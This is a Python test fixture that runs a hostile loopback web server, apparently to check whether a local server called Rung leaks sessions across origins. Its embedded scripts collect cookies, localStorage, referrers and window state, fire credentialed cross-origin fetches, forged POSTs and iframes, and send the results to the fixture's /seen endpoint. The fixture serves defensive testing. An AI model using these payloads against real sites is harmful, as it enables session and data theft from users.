"""A client on a port of its own on Rung's host, which wants the sessions of others.

Whatever it is asked for, it answers with a page that sends the browser on, and remembers all that
arrives: addresses, headers, bodies, and what its scripts can see.
"""

import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from threading import Lock, Thread
from urllib.parse import parse_qs, urlsplit

#: Every name of this machine that a browser reaches without a resolver.
HOSTS = ("127.0.0.1", "localhost", "[::1]", "rung.localhost")
#: How the browser gets from one page to the next.
WAYS = ("redirect", "link", "post", "replace")
#: What the script of each page can see is sent with the request for the next page.
SEEN = """
const seen = JSON.stringify([location.href, document.referrer, document.cookie, {...localStorage},
  window.name, history.state, performance.getEntries().map((one) => one.name)]);
navigator.sendBeacon("/seen", seen);
"""
GO = {
    "link": "const a = document.createElement('a'); a.href = next; document.body.append(a);"
    "a.click();",
    "post": "const f = document.createElement('form'); f.method = 'post'; f.action = next;"
    "document.body.append(f); f.submit();",
    "replace": "location.replace(next);",
}
#: Frames and requests to every address, from one page; whatever it can read of them.
REACH = """
(async () => {
  const read = [];
  await Promise.all(urls.map(async (url) => {
    for (const mode of ["cors", "no-cors"]) {
      try {
        const answer = await fetch(url, { mode, credentials: "include",
          signal: AbortSignal.timeout(4000) });
        read.push([mode, answer.url, [...answer.headers], await answer.text()]);
      } catch (error) { read.push([mode, url, String(error)]); }
    }
    const body = new URLSearchParams({ code: "x", form: "x", leave: "1" });
    await fetch(url, { method: "POST", body, mode: "no-cors", credentials: "include",
      signal: AbortSignal.timeout(4000) }).then((answer) => answer.text()).catch(() => {});
  }));
  for (let start = 0; start < urls.length; start += 10) {
    await Promise.all(urls.slice(start, start + 10).map((url) => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = frame.onerror = () => {
        try { read.push(["frame", url, frame.contentWindow.location.href,
          frame.contentDocument?.documentElement.outerHTML]); } catch { /* another origin */ }
        frame.remove();
        done();
      };
      frame.src = url;
      document.body.append(frame);
      setTimeout(done, 2000);
    })));
  }
  await fetch("/seen", { method: "POST", body: JSON.stringify(read) });
  location.replace("/done");
})();
"""


@dataclass
class Hostile:
    """A client and all that it has received. `paths` are those that Rung serves at `target`."""

    port: int
    target: int
    paths: list[str]
    received: list[str] = field(default_factory=list)
    cookies: set[str] = field(default_factory=set)
    _changed: Lock = field(default_factory=Lock)

    def hops(self) -> list[tuple[str, str]]:
        """(address of a page, way to get there): every host, path and way."""
        return [
            (f"http://{host}:{self.port}{path}", way)
            for host, way, path in product(HOSTS, WAYS, self.paths)
        ]

    def addresses(self, host: str) -> list[str]:
        """Every path of Rung on a host, and the first pages on the others, at the port of Rung and
        at that of the client."""
        return [
            f"http://{each}:{port}{path}"
            for each, port in product(HOSTS, (self.target, self.port))
            for path in (self.paths if each == host else ("/", "/owner", "/read"))
        ]

    def note(self, *parts: str) -> None:
        with self._changed:
            self.received.append("\n".join(parts))

    @property
    def all(self) -> str:
        """All that has arrived, as one text."""
        return "\n".join(self.received)


@contextmanager
def listening(target: int, paths: list[str]) -> Iterator[Hostile]:
    """The client on a free port of every loopback address."""

    class Server(ThreadingHTTPServer):
        address_family, daemon_threads, request_queue_size = socket.AF_INET6, True, 128

        def server_bind(self) -> None:
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            super().server_bind()

        def handle_error(self, *_: object) -> None:
            """A browser that went on takes no answer."""

    with Server(("::", 0), _Page) as server:
        server.hostile = Hostile(server.server_port, target, paths)  # type: ignore[attr-defined]
        Thread(target=server.serve_forever, daemon=True).start()
        yield server.hostile  # type: ignore[attr-defined]
        server.shutdown()


class _Page(BaseHTTPRequestHandler):
    """Remembers a request and sends the browser on. `?hop=` is the number of the page."""

    @property
    def hostile(self) -> Hostile:
        found: Hostile = self.server.hostile  # type: ignore[attr-defined]
        return found

    def do_GET(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace")
        self.hostile.note(self.path, str(self.headers), body)
        if sent := self.headers.get("Cookie"):
            self.hostile.cookies.add(sent)
        query = parse_qs(urlsplit(self.path).query)
        if "hop" in query:
            self._send_on(int(query["hop"][0]))
        elif "reach" in query:
            host = self.headers["Host"].rpartition(":")[0]
            urls = json.dumps(self.hostile.addresses(host))
            self._answer(f"<script>const urls = {urls}; {REACH}</script>")
        elif self.path == "/done":
            self._answer("<p id=done>done")
        else:
            self._answer("<p class=client>hello")

    do_POST = do_HEAD = do_GET

    def _send_on(self, hop: int) -> None:
        hops = self.hostile.hops()
        if hop >= len(hops):
            return self._answer("<script>location.replace('/done')</script>")
        url, way = hops[hop]
        url += f"?hop={hop + 1}"
        # Browsers follow 20 redirects.
        if way == "redirect" and hop % 10:
            return self._answer("", 302, Location=url)
        script = f"const next = {json.dumps(url)}; {SEEN} {GO.get(way, GO['replace'])}"
        self._answer(f"<body><script>{script}</script>")

    def _answer(self, page: str, status: int = 200, **headers: str) -> None:
        content = f"<!doctype html><title>client</title>{page}".encode()
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.send_header("Referrer-Policy", "unsafe-url")
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        pass
